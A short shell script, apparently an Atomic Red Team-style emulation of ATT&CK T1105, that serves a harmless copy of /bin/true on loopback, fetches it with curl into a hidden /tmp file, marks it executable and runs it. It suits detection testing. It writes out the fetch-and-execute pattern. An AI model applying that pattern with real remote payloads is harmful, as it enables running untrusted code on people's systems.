#!/bin/sh
# T1105, after Atomic Red Team "Linux Download File and Run": a binary fetched by IP address
# into /tmp with curl, made executable and run. The server is on loopback.
set -e
d=$(mktemp -d)
cp /bin/true "$d/payload"
port=$((37000 + $$ % 10000))
(cd "$d" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "$port" > /dev/null 2>&1) &
srv=$!
i=0; until nc -z 127.0.0.1 "$port" 2>/dev/null || [ $i -ge 150 ]; do sleep 0.1; i=$((i + 1)); done
out=/tmp/.scn-dl-$$
curl -s -o "$out" "http://127.0.0.1:$port/payload"
chmod +x "$out"
"$out"
rm -f "$out"
kill "$srv"
rm -rf "$d"
